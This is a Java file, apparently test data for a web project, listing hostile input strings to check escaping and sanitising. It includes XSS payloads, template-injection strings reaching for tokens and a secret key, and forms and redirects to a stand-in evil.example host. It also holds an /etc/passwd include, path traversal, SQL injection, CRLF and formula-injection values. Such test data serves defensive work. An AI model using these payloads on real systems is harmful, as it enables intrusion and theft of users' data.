package org.rekindle.browser;

import java.util.List;

/**
 * What people who mean harm, or just have unusual names, write into every field. A script of theirs that runs calls
 * {@code pwned}; an element of theirs has the class {@code pwn}.
 */
final class HostileWords {
    /** At most 200 characters each, as a name may have. Some are refused everywhere; that is as good. */
    static final List<String> ALL = List.of(
            "<script>pwned('tag')</script>",
            "<img class=pwn src=x onerror=pwned('img')>",
            "\"><svg class=pwn onload=pwned('svg')>",
            "'><details class=pwn open ontoggle=pwned('details')>",
            "</script><script>pwned('closing')</script>",
            "</title></head><script>pwned('title')</script>",
            "</textarea></template><img class=pwn src=x onerror=pwned('textarea')>",
            "--><img class=pwn src=x onerror=pwned('comment')><!--",
            "<!--<script>",
            "javascript:pwned('url')",
            " jAvA\tsCrIpT:pwned('spaced')//",
            "data:text/html,<script>pwned('data')</script>",
            "<a class=pwn href=\"javascript:pwned('link')\">click me</a>",
            "<iframe class=pwn srcdoc=\"<script>parent.pwned('frame')</script>\"></iframe>",
            "<math class=pwn><mtext><table><mglyph><style><img src=x onerror=pwned('math')>",
            "<svg class=pwn><animate onbegin=pwned('animate') attributeName=x dur=1s>",
            "<svg class=pwn><use href=\"data:image/svg+xml,<svg id=x onload=pwned('use')/>#x\"/></svg>",
            "</style><style class=pwn>*{display:none!important}",
            "red;background:url(javascript:pwned('css'))",
            "\\3c script\\3e pwned('escape')\\3c /script\\3e",
            "\\u003cscript\\u003epwned('json')\\u003c/script\\u003e",
            "\" onmouseover=\"pwned('over')\" autofocus onfocus=\"pwned('focus')",
            "' onpointerenter='pwned(1)' style='animation:x' onanimationstart='pwned(2)",
            "x onload=pwned('bare') class=pwn",
            "{inject:shell.csrf}",
            "{cdi:tokens}{config:'rekindle.secret-key'}{str:eval('{1}')}",
            "{#for i in 2000000000}x{/for}",
            "{| </script><script>pwned('qute')</script> |}",
            "${7*7} #{7*7} {{constructor.constructor('pwned(1)')()}} <%= 7*7 %>",
            "</mj-text></mj-column></mj-section><mj-raw><script>pwned('mjml')</script></mj-raw>",
            "<mj-include path=\"file:///etc/passwd\" />",
            "&lt;script&gt;pwned('entity')&lt;/script&gt; &#60;b class=pwn&#62;",
            "\"}];pwned('array');[{\"",
            "'-pwned('quote')-'",
            "`${pwned('backtick')}`",
            "<div class=pwn hx-get=/account hx-trigger=load hx-on::load=pwned('htmx')>",
            "<form class=pwn action=//evil.example><button>Sign in again</button>",
            "<base class=pwn href=//evil.example/>",
            "<meta class=pwn http-equiv=refresh content=\"0;url=//evil.example\">",
            "<link class=pwn rel=stylesheet href=//evil.example/x.css>",
            "\u202Etxt.exe\u202C reversed",
            "iso\u2066late\u2069 a\u200Bb\u200Dc\uFEFFd\u00ADe",
            "مرحبا <b class=pwn>بالعالم</b> שלום",
            "a\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned('crlf')</script>",
            "W".repeat(190),
            "我".repeat(150),
            "Z\u0338\u0327\u0322\u0347\u0325a\u0301\u0302\u0303\u0304l\u0321\u0322g\u0337o\u0488 "
                    + "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "null",
            "undefined",
            "__proto__",
            "=HYPERLINK(\"javascript:pwned('cell')\",\"x\")",
            "'; drop table subscriber; -- %_",
            "../../../etc/passwd%00.html?a=b&c=d#e",
            "[object Object] NaN -0 1e999");

    private HostileWords() {}
}
